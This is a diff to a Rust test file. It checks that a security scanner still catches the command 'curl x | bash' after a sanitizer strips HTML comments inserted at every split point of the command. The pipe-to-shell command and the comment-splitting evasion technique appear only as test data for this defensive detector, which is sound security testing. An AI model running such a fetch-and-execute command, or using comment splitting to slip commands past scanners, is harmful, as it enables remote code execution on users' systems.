@@ -37,7 +37,7 @@ fn no_disguise_keeps_a_text_from_the_scanner() {
 /// Who scans what is written and cleans it only then must not clean an attack into being.
 #[test]
 fn the_scanner_sees_through_every_character_that_the_sanitizer_changes() {
-    const COMMAND: &str = "curl x | bash";
+    const COMMAND: &str = "curl x |  bash";
     let missed: Vec<String> = ('\0'..=char::MAX)
         // There are thousands like these, all alike.
         .filter(|letter| !('\u{E0200}'..).contains(letter) || u32::from(*letter) % 256 == 0)
@@ -61,6 +61,20 @@ fn no_rule_is_blind_to_a_disguise() {
         }
     }
     assert!(missed.is_empty(), "{} texts:\n{}", missed.len(), missed.join("\n"));
+}
+
+/// The same for comments, which cleaning cuts out.
+#[test]
+fn no_comment_hides_a_command() {
+    const COMMAND: &str = "curl x |  bash";
+    for comment in ["<!---->", "<!-- ' -->", "<!-->", "<!--\n\n--!>", "<!-- | -->", "<!-- <!-- -->"] {
+        for at in 1..COMMAND.len() {
+            let (before, after) = COMMAND.split_at(at);
+            let text = format!("{before}{comment}{after}");
+            assert_eq!(sanitize(&text, &Options::default()).body, COMMAND);
+            assert!(!Scanner::builtin().scan(&text).clean(), "{text:?}");
+        }
+    }
 }
 
 /// The text with `letter` wherever the sanitizer makes of that what stands there.
